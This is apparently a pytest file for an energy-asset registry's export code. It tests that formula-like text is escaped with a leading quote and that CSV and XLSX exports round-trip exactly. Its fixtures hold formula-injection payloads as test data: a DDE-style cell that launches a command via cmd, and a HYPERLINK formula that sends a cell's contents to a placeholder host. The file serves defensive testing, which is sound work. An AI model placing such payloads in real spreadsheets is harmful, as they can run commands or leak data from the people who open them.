"""Text that a spreadsheet would run as a formula is exported with a leading quote, and a CSV or
XLSX round trip leaves every stored value exact and writes no new registry version."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from der_assets.registry.cell_escape import FORMULA_STARTS, escape_cell, unescape_cell
from der_assets.registry.service import export_registry, import_registry_file
from der_assets.registry.store import current_registry

from .helpers import demo_text

TYPED = {  # column -> what an operator's file has in the first device row (and its site's other rows)
    "subscriber_name": "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "serial": "+1234567",
    "vendor_ref": "-42",
    "model": "''=quoted twice",  # a spreadsheet's own leading quote is removed, as the spreadsheet does
    "make": "'Tis Solar",  # a quote before an ordinary letter is data, left alone
    "edc_account": "'''",
}
HOSTILE = {**TYPED, "model": "'=quoted twice", "edc_account": "''"}  # what the registry stores


@pytest.mark.parametrize(("stored", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-42", "'-42"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'=x", "''=x"), ("''", "'''"), ("'Tis", "'Tis"), ("'", "'"), ("a=b", "a=b"), ("", ""), ("7190000", "7190000"),
])
def test_escape_by_hand(stored, written):
    assert escape_cell(stored) == written
    assert unescape_cell(written) == stored


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", "1", " "]), max_size=6))
def test_escape_round_trips_and_never_starts_a_formula(text):
    written = escape_cell(text)
    assert unescape_cell(written) == text
    assert not written.startswith(FORMULA_STARTS)


def _hostile_registry(engine, tmp_path):
    text = demo_text(3)
    site = text.loc[0, "site_id"]
    first = text.index[text["site_id"] == site]
    for column, value in TYPED.items():
        rows = first if column not in ("serial", "vendor_ref", "model", "make") else first[:1]
        text.loc[rows, column] = value
    source = tmp_path / "typed.csv"
    with source.open("w", newline="") as f:  # as an operator's tool writes it: the raw values
        writer = csv.writer(f, lineterminator="\n")
        writer.writerow(text.columns)
        writer.writerows(text.itertuples(index=False))
    assert import_registry_file(engine, source).versions_created == 15  # 3 subscribers, sites, meters; 6 devices
    return site, text.loc[first[0], "device_id"]


def _stored(engine, device_id):
    registry = current_registry(engine)
    return registry.set_index("device_id").loc[device_id, list(HOSTILE)].to_dict()


def test_exports_quote_formulas_only_in_text_and_round_trip_exactly(engine, tmp_path):
    from openpyxl import load_workbook

    site, device = _hostile_registry(engine, tmp_path)
    before = _stored(engine, device)
    assert before == HOSTILE

    out = export_registry(engine, tmp_path / "export.csv")  # CSV
    assert len(out) == 6
    with (tmp_path / "export.csv").open(newline="") as f:
        cells = {r["device_id"]: r for r in csv.DictReader(f)}[device]
    assert cells["subscriber_name"] == "'" + HOSTILE["subscriber_name"]
    assert cells["address"] == "'" + HOSTILE["address"]
    assert (cells["serial"], cells["vendor_ref"]) == ("'+1234567", "'-42")
    assert (cells["model"], cells["make"], cells["edc_account"]) == ("''=quoted twice", "'Tis Solar", "'''")
    assert cells["longitude"].startswith("-") and float(cells["longitude"]) < -70  # numbers are not text
    assert import_registry_file(engine, tmp_path / "export.csv").versions_created == 0
    assert _stored(engine, device) == before

    path = tmp_path / "export.xlsx"  # XLSX: text cells, never formulas
    export_registry(engine, path)
    sheet = load_workbook(path).worksheets[0]
    header = [c.value for c in sheet[1]]
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("device_id")].value == device)
    assert row[header.index("subscriber_name")].value == "'" + HOSTILE["subscriber_name"]
    assert row[header.index("serial")].value == "'+1234567"
    assert import_registry_file(engine, path).versions_created == 0  # nothing blanked, no new version
    assert _stored(engine, device) == before

    inventory = export_registry(engine, tmp_path / "pjm.csv", iso="pjm")  # the ISO inventory
    assert inventory.set_index("site_id").loc[site, "address"] == HOSTILE["address"]  # the frame keeps the value
    with (tmp_path / "pjm.csv").open(newline="") as f:
        rows = {r["site_id"]: r for r in csv.DictReader(f)}
    assert rows[site]["address"] == "'" + HOSTILE["address"]
    assert float(rows[site]["longitude"]) < -70
